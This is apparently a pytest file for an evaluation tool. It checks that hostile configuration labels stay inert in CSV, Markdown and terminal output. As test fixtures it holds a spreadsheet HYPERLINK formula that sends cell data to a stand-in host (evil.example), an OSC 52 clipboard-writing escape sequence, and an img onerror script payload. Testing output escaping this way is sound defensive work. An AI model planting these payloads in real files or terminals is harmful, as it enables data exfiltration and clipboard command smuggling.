"""Output injection (issue 25, item 12): labels are text in every output. A spreadsheet formula in
a label is not live in the CSV files, a pipe, a line break or raw HTML does not break the Markdown
table, and a terminal escape sequence (OSC 52 writes the clipboard) never reaches the terminal."""

from __future__ import annotations

import csv
import re

import pytest

from helpers import madeval_in_process, run_quietly
from madeval.settings.config import DebateConfig, RunSettings

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
OSC52 = "\x1b]52;c;ZWNobyBwd25lZA==\x07"  # "copy 'echo pwned' to the clipboard"
MARKUP = "a|b\nc <img src=x onerror=alert(1)> d\\"
CSI_C1 = "\x9b31m"  # the 8-bit CSI, red text


@pytest.fixture
def hostile_run(sim, tmp_path):
    configurations = [DebateConfig(name=FORMULA, max_turns=1), DebateConfig(name=MARKUP + OSC52 + CSI_C1, max_turns=2),
                      DebateConfig(name="-1+2", max_turns=3)]
    settings = RunSettings(base_url=sim.base_url, configurations=configurations, tasks=["arith_mc"], limit=4,
                           cache="off", output_path=str(tmp_path / "run"), leaderboard={"compare": "all"})
    return run_quietly(settings)


def test_hostile_formula_labels_are_not_live_in_csv(hostile_run):
    result, _ = hostile_run
    with open(result.folder / "leaderboard.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    labels = {row["label"] for row in rows}
    assert "'" + FORMULA in labels and "'-1+2" in labels
    for row in rows:  # no cell of text starts a formula; numbers (negative deltas too) stay numbers
        for value in row.values():
            if value and value[0] in "=+-@\t\r":
                float(value)
    with open(result.folder / "comparisons.csv", newline="", encoding="utf-8") as handle:
        pairs = list(csv.DictReader(handle))
    assert len(pairs) == 3
    assert {"'" + FORMULA, "'-1+2"} <= {p["label_a"] for p in pairs} | {p["label_b"] for p in pairs}
    assert not any(p[k].startswith(("=", "+", "@")) for p in pairs for k in ("label_a", "label_b"))


def cells(line: str) -> list[str]:
    """The cells of a Markdown table row: split on pipes that are not backslash-escaped."""
    return re.split(r"(?<!\\)(?:\\\\)*\|", line)[1:-1]


def test_hostile_markup_labels_keep_the_markdown_table_whole(hostile_run):
    result, _ = hostile_run
    text = (result.folder / "leaderboard.md").read_text(encoding="utf-8")
    table = text.split("\n\n")[0].splitlines()
    assert len(table) == 2 + 3  # header, rule and one line per configuration: no line was broken
    widths = {len(cells(line)) for line in table}
    assert widths == {15}
    assert re.search(r"(?<!\\)<img", text) is None and "\\<img" in text  # raw HTML escaped, kept as text
    assert "\x1b" not in text and "\x9b" not in text


def test_hostile_escape_sequences_never_reach_the_terminal(hostile_run):
    result, printed = hostile_run
    assert "\x1b" not in printed and "\x9b" not in printed
    shown = madeval_in_process("leaderboard", "show", result.folder)
    shown.stdout = shown.stdout.encode()  # the bytes a process would have written (UTF-8)
    assert shown.returncode == 0, shown.stderr
    assert b"\x1b" not in shown.stdout and "\x9b".encode() not in shown.stdout
    assert b"]52;c;ZWNobyBwd25lZA==" in shown.stdout  # the label is shown, its escape byte gone


def test_hostile_text_helpers_by_hand():
    from madeval.util.shown_text import csv_cell, markdown_cell, terminal_text

    assert terminal_text("a\x1b]52;c;eA==\x07b\n\tc\x9b1m\x7f") == "a]52;c;eA==b\n\tc1m"
    assert [csv_cell(v) for v in ("=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "ok", -0.5, 3)] == [
        "'=1+1", "'+1", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "ok", -0.5, 3]
    assert markdown_cell("a|b\nc<i>\\") == "a\\|b c\\<i>\\\\"
